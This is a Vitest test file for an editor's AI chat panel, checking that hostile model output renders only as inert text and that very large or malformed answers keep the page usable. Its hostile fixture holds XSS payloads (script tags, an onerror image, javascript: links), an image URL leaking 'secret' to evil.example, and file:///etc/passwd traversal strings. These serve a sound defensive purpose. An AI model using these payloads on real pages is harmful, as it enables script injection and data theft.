import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startBareService } from "./bareService";
import type { BareService } from "./bareService";
import { look } from "./look";
import { openSession } from "./session";
import type { Session } from "./session";
import { newChat, sendMessage } from "./steps";

const hostile = [
  "# What an attacker writes",
  "<script>document.body.remove()</script>",
  '<img src=x onerror="document.body.remove()"> ![x](https://evil.example/leak?d=secret)',
  "<style>* { display: none }</style><iframe src='https://evil.example'></iframe>",
  "[press me](command:workbench.action.closeWindow) [or me](javascript:document.body.remove())",
  "[or me](file:///etc/passwd) `../../../etc/passwd` `/etc/passwd:1`",
  "access\u202etxt.exe zero\u200bwidth tag\u{e0041}",
  "```ts\nconst admin = '\u202e\u2066user\u2069';\n```",
  "```html\n<script>document.body.remove()</script>\n```",
].join("\n\n");

/** An event whose text is not UTF-8. */
const notUtf8 = Buffer.concat([
  Buffer.from(
    'data: {"id":"1","object":"chat.completion.chunk","created":1,"model":"m","choices":[{"index":0,"delta":{"content":"bytes ',
  ),
  Buffer.from([0xff, 0xc0, 0x80, 0xed, 0xa0, 0x80]),
  Buffer.from(' end"},"finish_reason":null}]}\n\n'),
]);

/** Log lines about violations of the page's policy, and about errors in the page. */
const trouble = /Content Security Policy|Refused to|groq-coder|groqCoder|webview\/main/;

const piecesOf = (content: string, length: number) =>
  Array.from({ length: Math.ceil(content.length / length) }, (_, index) =>
    content.slice(index * length, (index + 1) * length),
  );

describe("what an answer may be made of", () => {
  let session: Session;
  let service: BareService;
  beforeAll(async () => {
    service = await startBareService();
    session = await openSession({
      env: { GROQ_API_KEY: "gsk_journey", GROQ_BASE_URL: service.origin },
      // On the small plan the last answers would wait for the minute.
      settings: { "groqCoder.plan": "developer" },
    });
    await session.editor.runCommand("groqCoder.openChat");
  });
  afterAll(async () => {
    await session.close();
    await service.close();
  });

  it("script, images, links and hidden characters are only shown", async () => {
    const { editor } = session;
    const chat = editor.webview("view");
    service.answerWith([...piecesOf(hostile, 7), notUtf8]);
    await sendMessage(chat, "Be hostile\u202e, please");
    await chat.getByRole("button", { name: "Retry" }).waitFor();
    await look(editor, "hostile-answer", chat.getByRole("log"), [
      "<script>document.body.remove()</script>",
      "U+202E",
      "U+200B",
      "U+E0041",
      "Contains hidden characters",
      "\ufffd",
    ]);
    for (const role of ["link", "img"] as const)
      expect([role, await chat.getByRole("log").getByRole(role).count()]).toEqual([role, 0]);
    for (const tag of ["script", "img", "iframe", "style"])
      expect([tag, await chat.getByRole("log").locator(tag).count()]).toEqual([tag, 0]);
  });

  it.each([
    { name: "a line of 5 MB", content: "x".repeat(5_000_000) },
    { name: "10,000 fences", content: "```ts\nconst a = 1;\n```\n".repeat(10_000) },
    { name: "a line of code of 2 MB", content: `\`\`\`json\n["${"x".repeat(2_000_000)}"]\n\`\`\`` },
    { name: "brackets without end", content: "[".repeat(50_000) + "*_".repeat(50_000) },
  ])("$name: the page stays usable", async ({ content }) => {
    const { chat } = await newChat(session.editor);
    await chat.getByRole("heading", { name: "Ask, explain, refactor" }).waitFor();
    service.answerWith(piecesOf(content, 20_000));
    await chat.locator("body").evaluate(watchTasks);
    await sendMessage(chat, "Go on");
    await chat.getByRole("button", { name: "Retry" }).waitFor();
    await chat
      .getByRole("button", { name: /^Show more/ })
      .first()
      .waitFor();
    const longest = await chat.locator("body").evaluate(() => window.longestTask);
    expect(longest).toBeLessThan(1000);
    expect(await chat.getByRole("log").locator("*").count()).toBeLessThan(20_000);
    await chat.getByRole("textbox", { name: "Message" }).fill("Still there?");
  });

  it("nothing of it broke the page's policy", () => {
    expect(session.editor.consoleErrors.filter((error) => trouble.test(error))).toEqual([]);
  });
});

declare global {
  interface Window {
    longestTask?: number;
  }
}

function watchTasks(): void {
  window.longestTask = 0;
  new PerformanceObserver((list) => {
    for (const { duration } of list.getEntries())
      window.longestTask = Math.max(window.longestTask ?? 0, duration);
  }).observe({ type: "longtask" });
}
